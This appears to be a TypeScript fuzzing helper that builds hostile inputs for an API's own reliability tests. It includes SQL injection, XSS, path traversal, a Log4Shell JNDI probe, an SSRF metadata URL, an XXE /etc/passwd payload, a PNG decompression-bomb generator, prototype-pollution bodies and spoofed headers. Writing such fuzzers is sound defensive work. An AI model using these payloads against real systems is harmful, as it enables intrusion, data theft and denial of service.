import { deflateSync } from 'node:zlib';
import fc from 'fast-check';

/**
 * Hostile input for the endpoint fuzzer (bench/reliability/fuzz.ts): strings, values, bodies,
 * headers and uploads an attacker would send. Schema-aware bodies (built from the operation's
 * OpenAPI request schema with one hostile field) get past validation into the handlers, where the
 * 500s live; raw ones test the parsers.
 */
export const HOSTILE_STRINGS = [
  "' OR '1'='1",
  "'; DROP TABLE reports; --",
  '1; SELECT pg_sleep(30)--',
  '" UNION SELECT email, password_hash FROM users --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/passwd',
  'a\u0000b',
  '\ud800',
  'x\udc00y',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '-0',
  '0x7fffffff',
  '99999999999999999999999',
  '-1',
  '0000-01-01',
  '9999-12-31T23:59:59Z',
  '2026-02-30',
  '%',
  '%00',
  '%ZZ',
  '{{7*7}}',
  // A Log4Shell probe, literally (not a template).
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the hostile string itself
  '${jndi:ldap://example.org/a}',
  '\u202e\u0644\u0627',
  '😀'.repeat(300),
  'a'.repeat(70_000),
  ' ',
  '',
  'null',
  'true',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'not-a-uuid',
  'user@example.org',
  `${'a'.repeat(20_000)}@`,
  'http://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
];

export const hostileString = (known: string[]): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 5, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
    { weight: 2, arbitrary: fc.constantFrom(...known) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
  );

const hostileNumber = fc.oneof(
  fc.constantFrom(0, -1, 1, 2 ** 31, -(2 ** 53), Number.MAX_SAFE_INTEGER, 1e308, -1e308, 0.5, 91, -181),
  fc.double(),
  fc.integer(),
);

/** A JSON-ish value with hostile leaves, nested a little. */
export const hostileValue = (known: string[]): fc.Arbitrary<unknown> => {
  const leaf = fc.oneof(
    hostileString(known),
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
  ) as fc.Arbitrary<unknown>;
  return fc.oneof(
    { weight: 4, arbitrary: leaf },
    { weight: 1, arbitrary: fc.array(leaf, { maxLength: 4 }) },
    { weight: 1, arbitrary: fc.dictionary(fc.constantFrom('a', '__proto__', 'id', 'text', '$where'), leaf) },
  );
};

type JsonSchema = {
  $ref?: string;
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  const?: unknown;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  format?: string;
  minimum?: number;
  maximum?: number;
};

/**
 * A body shaped like the schema (required properties present, enums chosen from, ids from the known
 * ones), with hostile values in some fields: most of it passes validation so the handler runs.
 */
export function fromSchema(
  schema: JsonSchema | undefined,
  resolve: (ref: string) => JsonSchema | undefined,
  known: string[],
  depth = 0,
): fc.Arbitrary<unknown> {
  const s = schema?.$ref ? resolve(schema.$ref) : schema;
  const hostile = hostileValue(known);
  if (!s || depth > 6) return hostile;
  const alternatives = s.anyOf ?? s.oneOf;
  if (alternatives?.length)
    return fc.oneof(...alternatives.map((a) => fromSchema(a, resolve, known, depth + 1)));
  if (s.allOf?.length) return fromSchema(s.allOf[0], resolve, known, depth + 1);
  if (s.const !== undefined) return fc.oneof({ weight: 9, arbitrary: fc.constant(s.const) }, hostile);
  if (s.enum?.length) return fc.oneof({ weight: 9, arbitrary: fc.constantFrom(...s.enum) }, hostile);
  const type = Array.isArray(s.type) ? s.type.find((x) => x !== 'null') : s.type;
  const plausible = (() => {
    switch (type) {
      case 'object': {
        const props = Object.entries(s.properties ?? {});
        const required = new Set(s.required ?? []);
        const record: Record<string, fc.Arbitrary<unknown>> = {};
        for (const [k, v] of props) record[k] = fromSchema(v, resolve, known, depth + 1);
        return fc.record(record, { requiredKeys: [...required].filter((k) => k in record) });
      }
      case 'array':
        return fc.array(fromSchema(s.items, resolve, known, depth + 1), { maxLength: 3 });
      case 'integer':
      case 'number': {
        const lo = s.minimum ?? -1000;
        const hi = s.maximum ?? 1000;
        return type === 'integer'
          ? fc.integer({ min: Math.ceil(Math.max(lo, -1e9)), max: Math.floor(Math.min(hi, 1e9)) })
          : fc.double({ min: Math.max(lo, -1e9), max: Math.min(hi, 1e9), noNaN: true });
      }
      case 'boolean':
        return fc.boolean();
      case 'string':
        if (s.format === 'uuid') return fc.constantFrom(...known);
        if (s.format === 'date-time') return fc.constantFrom('2026-03-02T09:00:00Z', '2026-12-31T23:59:59Z');
        if (s.format === 'date') return fc.constantFrom('2026-03-02', '2026-01-01');
        if (s.format === 'email') return fc.constantFrom('fuzz@example.org');
        return fc.oneof(fc.constantFrom('Фонарь не горит', 'test', 'x'), hostileString(known));
      default:
        return hostile;
    }
  })() as fc.Arbitrary<unknown>;
  return fc.oneof({ weight: 4, arbitrary: plausible }, { weight: 1, arbitrary: hostile });
}

/** A PNG that declares 9,999 × 9,999 pixels (1 bit, all zero): 100 M pixels from a few kilobytes. */
export function decompressionBombPng(): Buffer {
  const width = 9_999;
  const height = 9_999;
  const row = Buffer.alloc(1 + Math.ceil(width / 8));
  const raw = Buffer.alloc(row.length * height);
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([len, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // greyscale
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(raw, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function crc32(buf: Buffer): number {
  let c = ~0;
  for (const byte of buf) {
    c ^= byte;
    for (let k = 0; k < 8; k++) c = (c >>> 1) ^ (0xedb88320 & -(c & 1));
  }
  return ~c >>> 0;
}

export type Upload = { filename: string; contentType: string; data: Buffer };

export function hostileUploads(): Upload[] {
  const svg = Buffer.from(
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' +
      '<script>fetch("/api/v1/me").then(r=>r.text()).then(alert)</script></svg>',
  );
  const jpegHead = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46]);
  return [
    { filename: 'bomb.png', contentType: 'image/png', data: decompressionBombPng() },
    { filename: 'pic.svg', contentType: 'image/svg+xml', data: svg },
    { filename: 'pic.jpg', contentType: 'image/jpeg', data: svg },
    { filename: '../../../../etc/passwd', contentType: 'image/jpeg', data: jpegHead },
    { filename: '..\\..\\boot.ini', contentType: 'image/png', data: Buffer.alloc(0) },
    { filename: 'x.html', contentType: 'text/html', data: Buffer.from('<script>alert(1)</script>') },
    { filename: 'truncated.jpg', contentType: 'image/jpeg', data: jpegHead },
    { filename: 'a\u0000.jpg', contentType: 'image/jpeg', data: jpegHead },
    { filename: 'big.jpg', contentType: 'image/jpeg', data: Buffer.alloc(12 * 1024 * 1024, 0xff) },
  ];
}

/** Bodies no parser should choke on: invalid UTF-8, deep nesting, NaN, oversized, truncated. */
export function rawBodies(): { contentType: string; payload: Buffer }[] {
  const json = 'application/json';
  return [
    { contentType: json, payload: Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc3, 0x28, 0x22, 0x7d]) },
    { contentType: json, payload: Buffer.from([0xff, 0xfe, 0xfd]) },
    { contentType: json, payload: Buffer.from(`${'['.repeat(10_000)}${']'.repeat(10_000)}`) },
    { contentType: json, payload: Buffer.from(`${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`) },
    { contentType: json, payload: Buffer.from('{"lat": NaN, "lon": Infinity}') },
    { contentType: json, payload: Buffer.from('{"lat": 1e999, "lon": -1e999}') },
    { contentType: json, payload: Buffer.from('{"__proto__": {"isAdmin": true}, "constructor": {}}') },
    { contentType: json, payload: Buffer.from('{"text": "unterminated') },
    { contentType: json, payload: Buffer.from(JSON.stringify({ text: 'x'.repeat(1_100_000) })) },
    { contentType: 'application/x-www-form-urlencoded', payload: Buffer.from('a=1&'.repeat(5_000)) },
    { contentType: 'application/x-www-form-urlencoded', payload: Buffer.from('%E0%A4%A&x=%ZZ&=&&==') },
    { contentType: 'multipart/form-data', payload: Buffer.from('--x\r\n\r\n') },
    { contentType: 'multipart/form-data; boundary=abc', payload: Buffer.from('--abc\r\nContent-Dis') },
    {
      contentType: 'text/xml',
      payload: Buffer.from('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    },
    { contentType: 'text/plain', payload: Buffer.from('hello') },
    { contentType: 'application/json; charset=utf-16', payload: Buffer.from('{}', 'utf16le') },
  ];
}

/** Headers an attacker sets: spoofed proxies and hosts, garbage credentials, odd languages. */
export const hostileHeaders = (known: string[]): fc.Arbitrary<Record<string, string>> =>
  fc.record(
    {
      'x-forwarded-for': fc.constantFrom('127.0.0.1', '::1, 10.0.0.1', 'garbage', '1.2.3.4'.repeat(200)),
      'x-forwarded-host': fc.constantFrom('evil.example', 'localhost:1', '\u0000'),
      'x-forwarded-proto': fc.constantFrom('https', 'gopher'),
      'accept-language': fc.constantFrom('xx', 'ru;q=NaN', '*', 'en-US,en;q=0.9'),
      accept: fc.constantFrom('application/xml', '*/*', 'text/event-stream', 'application/json'),
      authorization: fc.constantFrom('Bearer x', 'Bearer ', 'Basic YTpi', `Bearer ${'a'.repeat(5000)}`),
      cookie: fc.constantFrom('vmeste_session=garbage', 'vmeste_session=; a=b', `a=${'%'.repeat(100)}`),
      'x-csrf-token': fc.constantFrom('x', ''),
      'idempotency-key': fc.constantFrom('k', 'a'.repeat(10_000), "' OR 1=1"),
      'x-api-key': fc.oneof(fc.constantFrom('garbage', "' OR 1=1 --"), fc.constantFrom(...known)),
    },
    { requiredKeys: [] },
  );
